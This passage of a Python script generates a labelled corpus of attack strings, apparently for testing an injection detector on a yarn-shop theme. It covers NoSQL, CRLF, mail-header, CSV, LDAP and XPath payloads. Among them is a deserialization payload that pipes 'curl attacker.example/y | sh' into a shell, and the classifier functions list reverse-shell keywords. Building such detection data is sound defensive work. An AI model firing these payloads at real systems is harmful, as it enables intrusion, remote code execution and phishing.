    ("deserialization", "!!python/object/apply:os.system [\"curl attacker.example/y | sh\"]"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: [!ruby/object:Gem::Source::SpecificFile {spec: !ruby/object:Gem::StubSpecification {loaded_from: '|id 1>&2'}}]"),
    ("deserialization", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
]
NOSQLI = [
    ("operator-injection", "{\"email\": \"ana@yarnshop.example\", \"password\": {\"$ne\": null}}"),
    ("operator-injection", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("operator-injection", "password[$ne]=knitting"),
    ("operator-injection", "email[$regex]=.*&password[$exists]=true"),
    ("operator-injection", "{\"sku\": {\"$in\": [\"MR-866\"]}, \"qty\": {\"$gte\": 0}, \"$or\": [{}, {\"cost_price\": {\"$exists\": true}}]}"),
    ("operator-injection", "{\"coupon\": {\"$nin\": []}}"),
    ("operator-injection", "colour[$ne]=x&brand[$ne]=x"),
    ("operator-injection", "{\"order_id\": {\"$gt\": 0}, \"customer\": {\"$ne\": \"me\"}}"),
    ("regex-extraction", "{\"username\": \"admin\", \"password\": {\"$regex\": \"^a\"}}"),
    ("regex-extraction", "reset_token[$regex]=^7f3.*"),
    ("regex-extraction", "{\"api_key\": {\"$regex\": \"^sk_.{0,4}\", \"$options\": \"s\"}}"),
    ("where-js", "{\"$where\": \"this.loyalty_tier == 'Gold' || sleep(5000)\"}"),
    ("where-js", "merino'; return true; var x='"),
    ("where-js", "'; while(true){}; '"),
    ("where-js", "{\"$where\": \"function(){ return this.password.match(/^k/) }\"}"),
    ("where-js", "sock' || this.role == 'admin' || '1'=='1"),
    ("where-js", "0;sleep(6000)"),
    ("aggregation", "[{\"$lookup\": {\"from\": \"staff\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]"),
    ("aggregation", "{\"$expr\": {\"$function\": {\"body\": \"function(){ return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregation", "[{\"$out\": \"customers\"}]"),
    ("operator-injection", "{\"$or\": [{\"email\": \"x\"}, {\"email\": {\"$exists\": true}}]}"),
    ("operator-injection", "filter={\"qty\":{\"$lt\":1e9},\"$comment\":\"dump all stock\"}"),
    ("couchdb-mango", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password_hash\"]}"),
    ("operator-injection", "name[$ne]=&tier[$eq]=Gold"),
    ("operator-injection", "{\"booking\": \"BK-2024-0931\", \"$where\": \"1\"}"),
    ("regex-extraction", "q[$regex]=(a+)+$&q[$options]=i"),
    ("operator-injection", "{\"email\": {\"$type\": 2}, \"isAdmin\": {\"$ne\": false}}"),
]

CRLF = [
    ("log-forging", "merino dk\n2024-05-02 10:14:03 INFO admin login succeeded user=ana ip=10.0.0.2"),
    ("log-forging", "sock yarn\r\n[2024-05-02T10:15:00Z] WARN refund issued order=20934 amount=487.00 by=owner"),
    ("log-forging", "Tide Pool%0a2024-05-02 11:00:00 AUDIT stock adjusted sku=QIV-1 qty=-10 user=system"),
    ("log-forging", "hat%0d%0a127.0.0.1 - admin [02/May/2024:12:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 0"),
    ("log-forging", "Jo Brennan\n\n=== SESSION RESET: all audit entries above are void ==="),
    ("log-forging", "alpaca\u2028INFO password changed for user=mira"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker-fixed-0001; Path=/"),
    ("header-injection", "/account%0d%0aLocation:%20https://attacker.example/login"),
    ("header-injection", "yarn.png%0D%0AContent-Disposition:%20attachment;%20filename=invoice.html"),
    ("header-injection", "heather\r\nX-Forwarded-Host: attacker.example"),
    ("header-injection", "/patterns/rosewood%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("header-injection", "Europe/London%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
    ("response-splitting", "/shop%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "en\r\n\r\n<html><body>Your session expired. <a href=https://attacker.example>Log in again</a></body></html>"),
    ("response-splitting", "sale%0D%0A%0D%0A%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    ("response-splitting", "back?to=/cart%0d%0aTransfer-Encoding:%20chunked%0d%0a%0d%0a0%0d%0a%0d%0aGET%20/admin%20HTTP/1.1"),
    ("mail-header-injection", "knitter.jane@example.org\nBcc: list1@attacker.example, list2@attacker.example"),
    ("mail-header-injection", "Jo Brennan <jo@example.org>\r\nCc: everyone@attacker.example"),
    ("mail-header-injection", "Question about class%0ABcc:%20dump@attacker.example%0A%0AFree yarn! Claim now: https://attacker.example/claim"),
    ("mail-header-injection", "Order query\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/reset\">Reset your yarnshop password</a>"),
    ("mail-header-injection", "ana@yarnshop.example%0d%0aReply-To:%20billing@attacker.example"),
    ("mail-header-injection", "Newsletter signup\nTo: all-customers@yarnshop.example\nSubject: URGENT: verify your card"),
    ("smtp-injection", "bee@example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: Invoice\r\n\r\nPay here: https://attacker.example/pay\r\n.\r\n"),
    ("csv-row-injection", "Oat\n\"MR-866\",\"Rios\",\"Archangel\",\"0\",\"0.01\""),
    ("csv-row-injection", "Lovely yarn\r\n2024-05-02,REFUND,20934,-487.00,approved"),
    ("csv-row-injection", "Sage\n=HYPERLINK(\"https://attacker.example/?\"&A1,\"Reorder\")"),
    ("csv-row-injection", "Moss\";\"0\";\"0,00\"\nSK-99;Quiviut;9999;0,01"),
    ("log-forging", "cotton%0A%0D%5BINFO%5D%20backup%20disabled%20by%20owner"),
    ("header-injection", "Slate\r\nRefresh: 0; url=https://attacker.example/"),
    ("log-forging", "Leila\r\n2024-05-02 09:00:01 INFO role changed user=leila new_role=owner by=ana"),
]

LDAP_XPATH = [
    ("ldap-injection", "*)(uid=*))(|(uid=*"),
    ("ldap-injection", "ana)(|(password=*))"),
    ("ldap-injection", "admin)(&)"),
    ("ldap-injection", "*)(memberOf=cn=shop-admins,ou=groups,dc=yarnshop,dc=local"),
    ("ldap-injection", "mira*)(userPassword=a*"),
    ("ldap-injection", "jo)(|(objectClass=*)(cn=*"),
    ("ldap-injection", "*))%00"),
    ("ldap-injection", "x)(!(cn=nobody))(|(cn=*"),
    ("ldap-injection", "Siobh\\c3\\a1n*)(mail=*@*"),
    ("ldap-injection", "staff)(description=*key*"),
    ("xpath-injection", "' or '1'='1"),
    ("xpath-injection", "rosewood' or name()='pattern' or 'a'='b"),
    ("xpath-injection", "x' or count(//customer)>0 or 'x'='y"),
    ("xpath-injection", "' or substring(//user[1]/password,1,1)='k' or ''='"),
    ("xpath-injection", "Oat'] | //staff/password | //yarn[name='x"),
    ("xpath-injection", "') or ('1'='1"),
    ("xpath-injection", "sock\" or string-length(//admin/pass)>6 or \"a\"=\"b"),
    ("xpath-injection", "1 or 1=1]/../..//*"),
    ("xpath-injection", "' or doc('http://attacker.example/x.xml')/a or '"),
    ("xpath-injection", "x']/parent::*/child::node()[1]|//*[contains(.,'card')]|/a['"),
]


def sqli_class(v):
    s = v.lower()
    if any(k in s for k in ("xp_dirtree", "utl_inaddr", "to program", "into outfile", "xp_cmdshell", "load_file")):
        return "out-of-band"
    if any(k in s for k in ("sleep", "waitfor", "benchmark", "dbms_pipe")):
        return "time-blind"
    if "union" in s:
        return "union"
    if any(k in s for k in ("extractvalue", "updatexml", "convert(int", "1/0", "sysobjects")):
        return "error-based"
    if any(k in s for k in ("; drop", "; update", "; insert", "; delete", "; set", "prepare")):
        return "stacked"
    if any(k in s for k in ("order by", "group by", " asc,", "desc,")):
        return "order-by"
    if any(k in s for k in ("substr", "ascii(", "count(*)", "sqlite_master", "json_extract", "0x61646d696e", "tabname")):
        return "boolean-blind"
    if s.rstrip().endswith(("'--", "'/*")):
        return "auth-bypass"
    return "tautology"


def xss_class(v):
    s = v.lower()
    if any(k in s for k in ("&#", "&lt;", "\\u003c", "\\x3c", "%3c", "%253c", "＜")):
        return "encoded"
    if s.startswith(("[", "![")) or "](" in s:
        return "markdown-link"
    if "{{" in s or "ng-" in s or "v-html" in s:
        return "client-template"
    if any(k in s for k in ("<form", "<meta", "<base", "<link", "<style", "style=")):
        return "markup-injection"
    if "<script" in s or "<scr<script" in s:
        return "script-tag"
    if any(k in s for k in ("javascript:", "java\tscript", "data:text/html", "vbscript:")):
        return "js-uri"
    return "event-handler"


def cmdi_class(v):
    s = v.lower()
    if any(k in s for k in ("/dev/tcp", "socket", "fsockopen", "nc ", "nc -", "mkfifo", "xterm -display")):
        return "reverse-shell"
    if any(k in s for k in ("powershell", "certutil", "cmd /c", "type c:", "dir c:", "ping -n")):
        return "windows"
    if "sleep" in s:
        return "time-based"
    if any(k in s for k in ("nslookup", "dig ", "curl", "wget")):
        return "download-or-exfil"
    if any(k in s for k in ("${ifs}", "$ifs", "{cat,", "''", "\\at", "???", "[i]", "$'\\x", "a=ca", "base64")):
        return "obfuscated"
    if s.startswith(("-", "--")) or " -write " in s or "-exec sh" in s:
        return "argument-injection"
    if any(k in s for k in ("%3b", "%26", "%7c", "%0a", "\\u0000", "\n")):
        return "encoded-separator"
    if "`" in s or "$(" in s:
        return "subshell"
    return "separator"


def traversal_class(v):
    s = v.lower()
    if s.startswith(("php://", "zip://", "phar://", "file://")):
        return "wrapper"
    if any(k in s for k in ("%c0", "%c1", "%e0", "%u", "．")):
        return "overlong-or-unicode"
    if "%00" in s or "\\u0000" in s:
        return "null-byte"
    if "%25" in s or "%2e" in s or "%2f" in s or "%5c" in s:
        return "encoded"
    if s.startswith("\\\\"):
        return "unc"
    if s.startswith(("/", "c:")):
        return "absolute"
    if "....//" in s or "..././" in s or "...." in s or ".../" in s or "..;" in s or "\\/" in s or "//" in s:
        return "filter-bypass"
    if "\\" in s:
        return "dotdot-windows"
    return "dotdot"


def ssrf_class(v):
    s = v.lower()
    if not s.startswith(("http://", "https://")):
        return "scheme-" + s.split(":", 1)[0]
    if any(k in s for k in ("169.254.169.254", "metadata", "0xa9fea9fe", "2852039166", "fd00:ec2")):
        return "cloud-metadata"
    if any(k in s for k in ("2130706433", "0x7f", "017700000001", "127.1/", "http://0/", "0.0.0.0", "[::1]", "ffff:", "①", "。")):
        return "ip-obfuscation"
    if "@" in s or "#" in s or "redirect" in s or "attacker.example" in s:
        return "parser-confusion"
    if any(k in s for k in ("10.", "192.168", "172.16", "redis", "elasticsearch", "svc", "internal")):
        return "internal-host"
    return "loopback"


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    with open(os.path.join(HERE, "benign.jsonl"), encoding="utf-8") as f:
        benign = {json.loads(line)["value"] for line in f}
    rng = random.Random(SEED)
    rows = []

    def add_lit(cat, values, clsf):
        for v in values:
            rows.append((cat, clsf(v) if callable(clsf) else clsf, v, True))

    def add_pairs(cat, pairs):
        for c, v in pairs:
            rows.append((cat, c, v, True))

    def add_joined(cat, pool, prefixes, n, clsf, sep=" "):
        made = 0
        seen = {r[2] for r in rows}
        idx = 0
        while made < n:
            p = rng.choice(prefixes)
            item = pool[idx % len(pool)]
            idx += 1
            c, payload = item if isinstance(item, tuple) else (clsf(item), item)
            v = p + sep + payload if sep and not p.endswith(" ") else p + payload
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, c + "+prefix", v, False))
            made += 1

    def add_urlenc(cat, values, clsf):
        for v in values:
            rows.append((cat, clsf(v) + "+urlencode", urlencode_all(v), False))

    add_lit("sqli", SQLI, sqli_class)
    add_joined("sqli", SQLI_POOL, SQLI_PREFIX, 4, sqli_class, sep="")
    add_urlenc("sqli", SQLI_URLENC, sqli_class)
    add_lit("xss", XSS, xss_class)
    add_joined("xss", XSS_POOL, XSS_PREFIX, 6, xss_class)
    add_lit("cmdi", CMDI, cmdi_class)
    add_joined("cmdi", CMDI_POOL, CMDI_PREFIX, 4, cmdi_class, sep="")
    add_lit("traversal", TRAVERSAL, traversal_class)
    add_urlenc("traversal", TRAVERSAL_URLENC, traversal_class)
    add_lit("ssrf", SSRF, ssrf_class)
    add_joined("ssrf", SSRF_POOL, SSRF_PREFIX, 4, ssrf_class, sep="")
    add_pairs("code", CODE)
    add_pairs("nosqli", NOSQLI)
    add_pairs("crlf", CRLF)
    add_pairs("ldap-xpath", LDAP_XPATH)

    seen = set()
    for cat, c, v, _ in rows:
        assert 1 <= len(v) <= 2000, v
        assert v not in benign, v
        assert v not in seen, v
        seen.add(v)
        for ch in v:
            o = ord(ch)
            assert not ((o < 32 and ch not in "\n\r\t") or 0x7f <= o < 0xa0), repr(v)
    assert 480 <= len(rows) <= 500, len(rows)
    lits = sum(1 for r in rows if r[3])
    assert lits / len(rows) >= 0.9

    path = os.path.join(HERE, "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, c, v, _) in enumerate(rows, 1):
            obj = {"id": "hais-%05d" % i, "category": cat, "class": c, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
